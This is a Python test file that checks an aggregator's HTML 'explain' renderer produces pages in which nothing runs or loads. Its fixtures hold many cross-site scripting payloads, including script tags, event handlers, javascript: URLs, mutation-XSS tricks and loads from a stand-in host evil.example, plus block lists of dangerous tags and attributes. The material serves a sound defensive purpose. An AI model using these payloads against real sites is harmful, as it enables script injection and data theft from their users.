"""Why a value was chosen: the table, and the page with its evidence marked, in which nothing runs and nothing loads."""

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from aggregator.explain.html import render
from aggregator.explain.table import lines, rows, shown
from aggregator.parse import explain
from benchmarks.bombs import PROSE

FIXTURES = Path(__file__).parents[2] / "fixtures" / "sites"
MOON = FIXTURES / "hreview" / "moon" / "page.html"
LOADS = set("src href srcset action formaction data poster background ping cite longdesc manifest".split())
RUNS = """script iframe frame frameset object embed applet base link form input button select textarea svg math video
    audio source track canvas noscript template plaintext xmp listing noembed noframes image details dialog portal
    marquee""".split()


class Seen(HTMLParser):
    """What a browser's tokenizer would see in a page, read independently of lxml."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


def seen(source):
    parser = Seen()
    parser.feed(source)
    parser.close()
    return parser


def assert_harmless(source):
    """Nothing runs, nothing loads, nothing leads anywhere but to the page itself."""
    found = seen(source)
    tags = [tag for tag, _ in found.elements]
    assert not set(tags) & set(RUNS)
    assert tags.count("style") == tags.count("title") == 1
    metas = [attributes for tag, attributes in found.elements if tag == "meta"]
    assert [sorted(meta) for meta in metas] == [["charset"], ["content", "http-equiv"]]
    assert metas[1]["http-equiv"] == "Content-Security-Policy"
    assert metas[1]["content"].startswith("default-src 'none'")
    for tag, attributes in found.elements:
        assert not [name for name in attributes if name.startswith("on")]
        for name in LOADS & attributes.keys():
            assert tag == "a"
            assert name == "href"
            assert attributes[name].startswith("#")
        if "style" in attributes:
            assert re.fullmatch(r"(--k|border-color):(#[0-9a-f]{6}|transparent)", attributes["style"])
    ids = [attributes["id"] for _, attributes in found.elements if "id" in attributes]
    assert len(ids) == len(set(ids))
    for tag, attributes in found.elements:
        if tag == "a" and "href" in attributes:
            assert attributes["href"][1:] in ids
    return found


HOSTILE = """<html onload="alert(1)"><head><title>Moon</title><base href="http://evil.example/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel=stylesheet href="http://evil.example/a.css">
<style>@import url(http://evil.example/b.css); body{background:url(http://evil.example/c.png)}</style>
<script>alert(1)</script></head><body background="http://evil.example/d.png" onpageshow=alert(1)>
<h1 onclick="alert(1)" style="background:url(javascript:alert(1))">Moon <script>alert(2)</script>review</h1>
<p class="byline">by <a rel=author href="javascript:alert(3)" ping="http://evil.example">Anna Weber</a></p>
<p>Rating: <img src="http://evil.example/4.png" srcset="http://evil.example/5.png 2x" onerror=alert(4)
alt="4/5 stars"></p>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/x.swf"></object><embed src=x>
<form action="http://evil.example/"><p>The film is slow, and Anna Weber likes that it is. It is about the moon and about
nothing else, which is quite enough for one evening in a cinema.</p><input autofocus onfocus=alert(5)>
<button formaction="javascript:alert(6)">x</button></form>
<svg onload=alert(7)><a xlink:href="javascript:alert(8)"><text>x</text></a><script>alert(9)</script></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(10)&gt;"></mglyph></table>
</mtext></math><video poster="http://evil.example/p.png" src=v><source src=w onerror=alert(11)></video>
<details open ontoggle=alert(12)><summary>s</summary>detail</details><dialog>word</dialog>
<marquee onstart=alert(13)>m</marquee>
<noscript><p title="</noscript><img src=x onerror=alert(14)>"></noscript>
<template><img src=x onerror=alert(15)></template>
<x-evil onclick=alert(16)>custom</x-evil><a href="data:text/html,<script>alert(17)</script>">data</a>
<p title='"><script>alert(18)</script>' lang='"><img src=x onerror=alert(19)>'>titled</p>
<xmp></xmp><textarea></textarea><img src=x onerror=alert(20)></textarea><xmp><img src=x onerror=alert(21)></xmp>
<p>The end is quiet too, and it stays with you for a long time after the lights have come on in the cinema again.</p>
<plaintext><script>alert(22)</script>"""


def test_nothing_of_a_hostile_page_runs_or_loads():
    found = assert_harmless(render(explain(HOSTILE, "http://a.example/'><script>alert(0)</script>/moon-review")))
    text = " ".join("".join(found.text).split())
    for kept in ("Moon review", "Anna Weber", "slow, and", "custom", "detail", "word", "titled"):
        assert kept in text
    assert "[image: 4/5 stars]" in text
    assert "img" not in [tag for tag, _ in found.elements]


def test_a_page_within_a_form_is_shown():
    body = f"<form><h1>Moon</h1>{PROSE.decode()}</p></form>"
    assert "Anna Weber plays the widow" in "".join(seen(render(explain(f"<html><body>{body}</body></html>"))).text)


@pytest.mark.parametrize(
    "site", sorted(path for path in FIXTURES.iterdir() if path.is_dir()), ids=lambda site: site.name
)
def test_every_fixture_is_explained_harmlessly(site):
    for path in site.glob("*/page.*"):
        if path.name != "page.json":
            assert_harmless(render(explain(path.read_bytes())))


def test_what_won_is_marked_where_it_stands():
    explained = explain(MOON.read_bytes())
    source = render(explained)
    tree = etree.fromstring(source, etree.HTMLParser())
    winners = {row.field: row for row in rows(explained) if row.mark == "*"}
    for name in ("title", "rating", "critics"):
        marks = [mark for mark in tree.iter("span") if mark.get("class") == "tag" and mark.text == name]
        assert marks, name
        assert any(winners[name].raw.split()[0] in "".join(mark.getparent().itertext()) for mark in marks)


def test_tags_that_are_no_names_do_not_stop_it():
    body = f"<g:plusone><o:p><x$y><h1>Moon</h1>{PROSE.decode()}</p></x$y></o:p></g:plusone>"
    source = render(explain(f"<html><body>{body}</body></html>", "http://a.example/moon-review"))
    assert "Moon" in "".join(assert_harmless(source).text)


def test_signs_that_xml_cannot_hold_do_not_stop_it():
    body = "<h1>Mo<script></script>\x0bon&#xFFFE;&#1;</h1><p>a<b>b</b><style></style>\x1bc&#65535;</p>"
    assert "Moon" in "".join(assert_harmless(render(explain(f"<html><body>{body * 3}</body></html>"))).text)


def test_a_text_file_is_explained_line_by_line():
    text = "Moon\nby Anna Weber\n\n" + "The film is slow & good <script>alert(1)</script>. " * 5 + "\n\nRating: 4/5\n"
    found = assert_harmless(render(explain(text)))
    assert "<script>alert(1)</script>" in "".join(found.text)


def test_a_large_page_is_explained():
    body = PROSE * 2000
    explained = explain(b"<html><body><h1>Moon</h1>" + body + b"</body></html>", "http://a.example/moon-review")
    assert len(render(explained)) > len(body)


def test_the_table_names_every_candidate_once_with_its_place():
    explained = explain(MOON.read_bytes())
    table = list(rows(explained))
    assert sum(row.mark == "*" for row in table) == sum(c.winner is not None for c in explained.choices[0].values())
    assert all(0 <= row.weight <= 1 for row in table)
    text = "\n".join(lines(explained))
    assert text.startswith("page_type review")
    for row in table:
        assert row.rule in text
        assert row.locator in text


SCRAPS = st.sampled_from(
    """<p>,</p>,<b onclick=x>,<script>,</script>,<style>,</style>,<!--,-->,<xmp>,</xmp>,",',<svg>,<math>,<title>,
    </title>,<img src=x onerror=y>,<a href=javascript:x>,<plaintext>,<table>,&lt;script&gt;,<iframe>,</iframe>,
    <noscript>,</noscript>,<form>,text,<textarea>,<h1>Moon</h1>""".split(",")
).map(str.strip)


@settings(max_examples=150)
@given(st.lists(SCRAPS, max_size=25))
def test_no_mixture_of_tags_gets_through(scraps):
    assert_harmless(render(explain(f"<html><body>{''.join(scraps)}</body></html>", "http://a.example/moon-review")))


def test_a_record_is_shown_as_one_would_say_it():
    assert shown({"role": "cast", "name": "Ana Rey", "character": "Ruth", "raw": ""}) == "cast: Ana Rey as Ruth"
    assert shown({"role": "director", "name": "Ana Rey", "character": None}) == "director: Ana Rey"
    assert shown({"raw": "15 (BBFC)", "code": "15", "systems": ["BBFC"]}) == "15 (BBFC)"
    assert shown({"date": "2010-10-15", "kind": None, "places": ["UK", "FR"]}) == "2010-10-15, UK; FR"
